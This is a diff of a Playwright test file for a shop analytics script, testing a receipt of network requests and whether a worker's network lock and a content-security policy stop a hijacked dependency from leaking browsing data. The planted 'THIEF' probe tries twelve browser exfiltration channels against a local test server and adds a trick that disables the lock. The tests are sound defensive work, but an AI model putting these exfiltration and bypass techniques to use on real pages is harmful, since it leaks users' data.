@@ -1,23 +1,142 @@
 import type { Page } from '@playwright/test';
 import type { Receipt } from '../src/page/receipt.js';
+import { type ForeignServer, startForeignServer } from './support/foreign-server.js';
 import { engineStatus, slateOn, track } from './support/page-api.js';
-import { expect, type Shop, test } from './support/test.js';
+import { askWorker, type Planted, plant } from './support/planted.js';
+import { policyOf } from './support/policies.js';
+import { test as base, expect } from './support/test.js';
 
 const HEART = '85123A';
 
-test('the receipt is the network log: every request of this page and of the one before, and no byte of behaviour', async ({
+const test = base.extend<{ thief: ForeignServer }>({
+  async thief({ shop }, use) {
+    const thief = await startForeignServer();
+    shop.allow(thief.url);
+    await use(thief);
+    await thief.close();
+  },
+});
+
+test('the receipt is the network log: every request of this page and of those before, each the GET of a static file', async ({
   shop,
   page,
 }) => {
-  await shop.visit('wasm.html');
-  await useTheShop(page);
-  const first = await receiptOn(page);
-  console.log(JSON.stringify(first, null, 1));
-  console.log(shop.requested.join('\n'));
-  expect(urlsOf(first)).toEqual(ownRequests(shop));
+  // Without consent: the script, and what lists it.
+  await shop.visit('consent.html');
+  expect(pathsOf(await receiptOn(page))).toEqual(['/dist/auto.js', '/dist/receipt.js']);
+
+  for (const path of ['wasm.html', 'cart.html']) {
+    await shop.visit(path);
+    await shopOn(page);
+  }
+  const receipt = await receiptOn(page);
+  // The cards' pictures are a channel of their own.
+  const asked = shop.requested.map((url) => new URL(url).pathname).filter((path) => !/^\/(pages|img)\//.test(path));
+  expect(new Set(pathsOf(receipt))).toEqual(new Set(asked));
+  expect(receipt.requests.filter(({ url }) => url.endsWith('manifest.json'))).toHaveLength(2);
+  expect(receipt.requests.filter(({ what }) => what === 'wasm')).toHaveLength(1);
+  expect(receipt.requests.filter(({ what, url }) => what === 'other' || new URL(url).search)).toEqual([]);
+  for (const { bytes = -1, from } of receipt.requests) expect(from === 'cache' ? bytes === 0 : bytes > 0).toBe(true);
+  expect(receipt.behaviourBytesSent).toBe(0);
+  expect(receipt.channels.filter(({ isOn }) => isOn).map(({ name }) => name)).toContain('card-images');
+
+  // What the device keeps of it goes with everything else.
+  await page.evaluate(() => window.tillside?.forget());
+  expect((await receiptOn(page)).requests.filter(({ what }) => what === 'bundle')).toEqual([]);
 });
 
-async function useTheShop(page: Page): Promise<void> {
+/** What a dependency does that was taken over: it keeps what it finds when it is loaded, and has behaviour to send when the worker has started. */
+const THIEF: Planted = {
+  after: () => void Object.assign(self, { kept: self.fetch }),
+  probes: {
+    /** Tries every way out; says how each ended, once all have. */
+    steal: async (thief: string): Promise<(readonly [way: string, end: string])[]> => {
+      const loot = encodeURIComponent(JSON.stringify({ itemId: '85123A', dwellMs: 4_000 }));
+      const { kept, importScripts } = self as unknown as { kept: typeof fetch; importScripts(url: string): void };
+      const opened = (target: EventTarget, sign: string) =>
+        new Promise((resolve, reject) => {
+          target.addEventListener(sign, resolve);
+          target.addEventListener('error', reject);
+        });
+      const viaRequest = (request: XMLHttpRequest, url: string) => {
+        request.open('POST', url);
+        request.send(loot);
+        return opened(request, 'load');
+      };
+      const viaWorker = (url: string) => URL.createObjectURL(new Blob([`fetch("${url}").then(() => postMessage(1))`]));
+      const ways: readonly (readonly [string, (url: string) => unknown])[] = [
+        ['fetch', (url) => fetch(url, { method: 'POST', body: loot })],
+        ['fetch-kept', (url) => kept(url)],
+        ['fetch-of-prototype', (url) => Object.getPrototypeOf(Object.getPrototypeOf(self)).fetch.call(self, url)],
+        ['XMLHttpRequest', (url) => viaRequest(new XMLHttpRequest(), url)],
+        ['WebSocket', (url) => opened(new WebSocket(url.replace('http', 'ws')), 'open')],
+        ['EventSource', (url) => opened(new EventSource(url), 'open')],
+        ['Worker', (url) => opened(new Worker(viaWorker(url)), 'message')],
+        ['FontFace', (url) => new FontFace('loot', `url("${url}")`).load()],
+        ['cache', (url) => caches.open('loot').then((cache) => cache.add(url))],
+        ['importScripts', (url) => importScripts(url)],
+        ['sendBeacon', (url) => navigator.sendBeacon(url, loot)],
+        ['import', (url) => import(url)],
+      ];
+      const endOf = async ([name, way]: (typeof ways)[number]) => {
+        try {
+          await way(`${thief}/${name}?${loot}`);
+          return [name, 'out'] as const;
+        } catch (error) {
+          return [name, String(error)] as const;
+        }
+      };
+      return Promise.all(ways.map(endOf));
+    },
+  },
+};
+
+/** What closes our wall does nothing. */
+const takeOurWallDown = () => {
+  Reflect.defineProperty = () => true;
+};
+
+for (const { walls, hasOurs, hasPolicy, getsOut } of [
+  {
+    walls: 'no wall: it succeeds, ten times',
+    hasOurs: false,
+    hasPolicy: false,
+    getsOut: [
+      ...[
+        'EventSource',
+        'FontFace',
+        'WebSocket',
+        'Worker',
+        'XMLHttpRequest',
+        'cache',
+        'fetch',
+        'fetch-kept',
+        'fetch-of-prototype',
+      ],
+      'import',
+    ],
+  },
+  { walls: "the worker's own: only import() is left, as docs/csp.md says", hasOurs: true, hasPolicy: false, getsOut: ['import'] },
+  { walls: 'the policy of docs/csp.md: nothing gets out', hasOurs: false, hasPolicy: true, getsOut: [] },
+  { walls: 'both: nothing gets out', hasOurs: true, hasPolicy: true, getsOut: [] },
+]) {
+  test(`a dependency steals behaviour, against ${walls}`, async ({ shop, page, thief }) => {
+    const policy = hasPolicy ? policyOf('worker.js', { shop: shop.url }) : {};
+    await plant(shop, { ...THIEF, ...(!hasOurs && { before: takeOurWallDown }) }, policy);
+    await shop.visit('cart.html');
+    await shopOn(page);
+    const ends = await askWorker<[string, string][]>(page, 'steal', thief.url);
+    const stolen = thief.received.map((line) => /\/([\w-]+)\?.*85123A/.exec(line)?.[1]);
+    expect(stolen.sort()).toEqual([...getsOut].sort());
+    const refused = ends.filter(([, end]) => end === 'TypeError: This worker has given up the network.').map(([way]) => way);
+    const ours = ends.map(([way]) => way).filter((way) => !['import', 'sendBeacon'].includes(way));
+    expect(refused).toEqual(hasOurs ? ours : []);
+    // What was tried in vain has not hurt the shop.
+    expect((await slateOn(page)).strategy).toBe('model');
+  });
+}
+
+async function shopOn(page: Page): Promise<void> {
   expect((await engineStatus(page)).strategy).toBe('model');
   await track(page, { type: 'view_item', itemId: HEART }, { type: 'add_to_cart', itemId: HEART });
   expect((await slateOn(page)).strategy).toBe('model');
@@ -27,11 +146,6 @@ function receiptOn(page: Page): Promise<Receipt> {
   return page.evaluate(() => window.tillside?.receipt() as Promise<Receipt>);
 }
 
-function urlsOf({ requests }: Receipt): string[] {
-  return [...new Set(requests.map(({ url }) => url))].sort();
-}
-
-/** What was asked for, without the pages themselves and the cards' pictures. */
-function ownRequests(shop: Shop): string[] {
-  return [...new Set(shop.requested.filter((url) => !/\/pages\/|\/img\//.test(url)))].sort();
+function pathsOf({ requests }: Receipt): string[] {
+  return requests.map(({ url }) => new URL(url).pathname);
 }
